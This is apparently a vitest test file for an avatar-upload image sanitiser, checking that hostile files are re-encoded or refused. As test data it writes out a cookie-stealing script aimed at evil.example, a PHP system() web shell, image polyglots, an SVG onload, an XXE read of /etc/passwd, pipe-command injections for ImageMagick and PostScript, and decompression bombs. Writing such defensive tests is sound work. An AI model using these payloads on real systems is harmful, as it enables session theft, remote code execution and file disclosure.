import { deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { describe, expect, it, test } from 'vitest'
import { MediaError, toPicture } from './index.ts'

type Format = 'jpeg' | 'png' | 'webp' | 'avif' | 'gif'
const FORMATS = ['jpeg', 'png', 'webp', 'avif', 'gif'] as const

/** A small honest picture with some detail in it. */
const honest = (format: Format, size = 24) =>
  sharp({
    create: {
      width: size,
      height: size,
      channels: 3,
      background: '#1d4ed8',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .toFormat(format)
    .toBuffer()

const text = (words: string) => Buffer.from(words, 'utf8')
const PAYLOAD = '<script>document.location="//evil.example/"+document.cookie</script><?php system($_GET[0]); ?>'

/** What becomes of a file: the picture that is kept, or the sentence that it is refused with. Anything else is a bug. */
const fateOf = async (bytes: Uint8Array): Promise<{ kept: Uint8Array } | { refused: string }> => {
  try {
    return { kept: await toPicture(bytes, 'avatar') }
  } catch (error) {
    if (error instanceof MediaError) return { refused: error.message }
    throw error
  }
}

const expectHarmless = async (bytes: Uint8Array) => {
  const fate = await fateOf(bytes)
  if ('refused' in fate) return expect(fate.refused).toMatch(/\.$/)
  const { format, width, height, exif, icc, xmp, iptc, pages } = await sharp(fate.kept).metadata()
  expect({ format, exif, icc, xmp, iptc, pages }).toEqual({ format: 'webp' })
  expect(Math.max(width, height)).toBeLessThanOrEqual(400)
  expect(Buffer.from(fate.kept).includes('script')).toBe(false)
  expect(Buffer.from(fate.kept).includes('php')).toBe(false)
}

/** A chunk of a PNG. */
const chunk = (type: string, data: Uint8Array) => {
  const body = Buffer.concat([text(type), data])
  const whole = Buffer.alloc(body.length + 8)
  whole.writeUInt32BE(data.length, 0)
  body.copy(whole, 4)
  whole.writeUInt32BE(crc32(body), body.length + 4)
  return whole
}
const crc32 = (bytes: Uint8Array) => {
  let crc = ~0
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return ~crc >>> 0
}
/** A PNG's signature and header are its first 33 bytes: a chunk may follow them. */
const withChunk = (png: Buffer, ...added: Buffer[]) => Buffer.concat([png.subarray(0, 33), ...added, png.subarray(33)])
/** The marker of a JPEG, and what is said beside the picture. */
const withSegment = (jpeg: Buffer, marker: number, data: Buffer) => {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)])
}

describe('a file that is two things at once', () => {
  it('PHOTO-8 keeps nothing but the picture of it', async () => {
    const [jpeg, png, gif, webp] = await Promise.all([honest('jpeg'), honest('png'), honest('gif'), honest('webp')])
    const files: Uint8Array[] = [
      // A page, a program or a zip behind the picture.
      ...[jpeg, png, gif, webp].flatMap((picture) => [
        Buffer.concat([picture, text(PAYLOAD)]),
        Buffer.concat([picture, text('PK\x03\x04'), text(PAYLOAD)]),
      ]),
      // The same beside it, where a camera writes.
      withSegment(jpeg, 0xfe, text(PAYLOAD)),
      withSegment(jpeg, 0xe1, Buffer.concat([text('http://ns.adobe.com/xap/1.0/\0'), text(PAYLOAD)])),
      withChunk(png, chunk('tEXt', text(`Comment\0${PAYLOAD}`))),
      withChunk(png, chunk('iTXt', text(`XML:com.adobe.xmp\0\0\0\0\0${PAYLOAD}`))),
      // A script whose first letters are a picture's head.
      Buffer.concat([gif.subarray(0, -1), text(`/*${PAYLOAD}*/=1;alert(1)//`), gif.subarray(-1)]),
      text(`GIF89a/*\x00\x00\x00*/=1;${PAYLOAD}`),
      text(`\xff\xd8\xff${PAYLOAD}`),
    ]
    for (const file of files) await expectHarmless(file)
  })
})

describe('a file that is no picture', () => {
  const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">${PAYLOAD}</svg>`
  test.each<[string, Uint8Array]>([
    ['a drawing', text(SVG)],
    ['a drawing with a declaration', text(`<?xml version="1.0"?><!DOCTYPE svg>${SVG}`)],
    [
      'a drawing that reads a file',
      text(
        `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&f;</text></svg>`,
      ),
    ],
    ['a drawing after a mark of byte order', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(SVG)])],
    ['a packed drawing', deflateRawSync(text(SVG))],
    ['a page', text(`<!doctype html>${PAYLOAD}`)],
    ['a drawing program’s commands', text('push graphic-context\nimage over 0,0 0,0 "|id"\npop graphic-context')],
    ['a PostScript program', text('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file')],
    ['a PDF', text('%PDF-1.7\n1 0 obj << /OpenAction 2 0 R >>')],
    ['a TIFF', Buffer.from('49492a0008000000000000000000', 'hex')],
    ['a bitmap', Buffer.from(`424d${'00'.repeat(60)}`, 'hex')],
    ['an icon', Buffer.from('00000100010010100000010020006804000016000000', 'hex')],
    ['a Photoshop file', Buffer.from(`38425053${'00'.repeat(60)}`, 'hex')],
    ['a film', Buffer.from('000000186674797069736f6d0000020069736f6d69736f32', 'hex')],
    ['zeros', new Uint8Array(4_096)],
  ])('PHOTO-8 refuses %s', async (_, bytes) => {
    expect(await fateOf(bytes)).toEqual({ refused: expect.stringMatching(/not a picture/) })
  })

  it('PHOTO-8 refuses a HEIC photo with what to do about it', async () => {
    const heic = Buffer.from('0000001866747970686569630000000068656963 6d696631'.replaceAll(' ', ''), 'hex')
    expect(await fateOf(heic)).toEqual({ refused: expect.stringMatching(/JPEG/) })
  })
})

describe('a bomb', () => {
  /** What a file says of its size, written over. */
  const claims = (bytes: Buffer, at: number, write: (bytes: Buffer, at: number) => void) => {
    write(bytes, at)
    return bytes
  }

  it('PHOTO-8 is refused by what it claims, before it is unpacked', async () => {
    const [png, gif, jpeg, webp] = await Promise.all([honest('png'), honest('gif'), honest('jpeg'), honest('webp')])
    const files = [
      claims(png, 16, (b, at) => b.fill(0x7f, at, at + 8)),
      // A GIF's frame may be larger than its screen: behind the comma stand its place and its size.
      claims(gif, gif.indexOf(Buffer.from([0x2c, 0, 0, 0, 0])) + 5, (b, at) => b.fill(0xff, at, at + 4)),
      // The frame header of a JPEG: length, precision, height, width.
      claims(jpeg, jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 5, (b, at) => b.fill(0xfd, at, at + 4)),
      // The size of a lossy WebP stands behind its start code.
      claims(webp, webp.indexOf(Buffer.from([0x9d, 0x01, 0x2a])) + 3, (b, at) => b.fill(0x3f, at, at + 4)),
    ]
    for (const file of files) expect(await fateOf(file)).toHaveProperty('refused')
  })

  it('PHOTO-8 of one colour, tiny packed and huge unpacked, is refused', async () => {
    const row = Buffer.alloc(10_001)
    const header = Buffer.from('0000271000002710080000000000', 'hex').subarray(0, 13)
    const png = Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', header),
      chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: 10_000 }, () => row)))),
      chunk('IEND', Buffer.alloc(0)),
    ])
    expect(png.length).toBeLessThan(200_000)
    expect(await fateOf(png)).toEqual({ refused: expect.stringMatching(/60 million pixels/) })
  })

  it('PHOTO-8 in what is said beside the picture is never unpacked into what is kept', async () => {
    const png = await honest('png')
    const packed = deflateSync(Buffer.alloc(80_000_000))
    await expectHarmless(withChunk(png, chunk('zTXt', Buffer.concat([text('Comment\0\0'), packed]))))
    await expectHarmless(withChunk(png, chunk('iCCP', Buffer.concat([text('icc\0\0'), packed]))))
  })

  it('PHOTO-8 of many frames is read as its first', async () => {
    const frame = await honest('gif', 16)
    // Everything between the head and the end, as often as it fits into a megabyte.
    const [head, body] = [frame.subarray(0, 13), frame.subarray(13, -1)]
    const film = Buffer.concat([head, ...Array.from({ length: Math.floor(1e6 / body.length) }, () => body), text(';')])
    await expectHarmless(film)
  })
})

test('PHOTO-8 pictures with broken bytes anywhere are drawn or refused in a sentence, nothing else', async () => {
  const SEED = 20_260_103
  let state = SEED
  const next = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state % below
  }
  const sources = await Promise.all(FORMATS.map((format) => honest(format)))
  for (const [index, source] of sources.entries())
    for (let round = 0; round < 40; round += 1) {
      const broken = Buffer.from(source)
      for (let hit = 0; hit <= next(6); hit += 1) broken[next(broken.length)] = next(256)
      const cut = next(4) === 0 ? broken.subarray(0, next(broken.length)) : broken
      await expectHarmless(cut).catch((error: unknown) => {
        throw new Error(`seed ${SEED}, ${FORMATS[index]}, round ${round}`, { cause: error })
      })
    }
})

describe('a square', () => {
  /** Four corners of four colours; what is asked for is known by its colour. */
  const quarters = async (orientation?: number) => {
    const corner = (background: string, left: number, top: number) => ({
      input: { create: { width: 100, height: 50, channels: 3 as const, background } },
      left,
      top,
    })
    const whole = sharp({ create: { width: 200, height: 100, channels: 3, background: '#000' } }).composite([
      corner('#ff0000', 0, 0),
      corner('#00ff00', 100, 0),
      corner('#0000ff', 0, 50),
      corner('#ffffff', 100, 50),
    ])
    return (orientation ? whole.withMetadata({ orientation }) : whole).jpeg({ quality: 100 }).toBuffer()
  }
  const colourOf = async (bytes: Uint8Array) => {
    const { channels } = await sharp(bytes).stats()
    return channels.slice(0, 3).map(({ mean }) => (mean > 128 ? 1 : 0))
  }

  it('AVATAR-2 is the part that was asked for, and the middle where nothing was', async () => {
    const bytes = await quarters()
    const part = await toPicture(bytes, 'avatar', { x: 0.55, y: 0.05, side: 0.4 })
    expect(await colourOf(part)).toEqual([0, 1, 0])
    const { width, height } = await sharp(part).metadata()
    expect([width, height]).toEqual([40, 40])
    const middle = await sharp(await toPicture(bytes, 'avatar')).metadata()
    expect([middle.width, middle.height]).toEqual([100, 100])
  })

  it('AVATAR-2 is meant of the picture as people see it, whichever way the camera was held', async () => {
    // Turned clockwise by a quarter: the lower left corner comes to be the upper left one.
    const part = await toPicture(await quarters(6), 'avatar', { x: 0.05, y: 0.05, side: 0.3 })
    expect(await colourOf(part)).toEqual([0, 0, 1])
  })

  it('AVATAR-2 lies within the picture whatever is asked for', async () => {
    const bytes = await quarters()
    for (const asked of [
      { x: 9, y: 9, side: 9 },
      { x: -1, y: -1, side: 0 },
      { x: 1, y: 1, side: 1e-9 },
    ]) {
      const { width = 0, height } = await sharp(await toPicture(bytes, 'avatar', asked)).metadata()
      expect(width).toBe(height)
      expect(width).toBeGreaterThan(0)
    }
  })
})
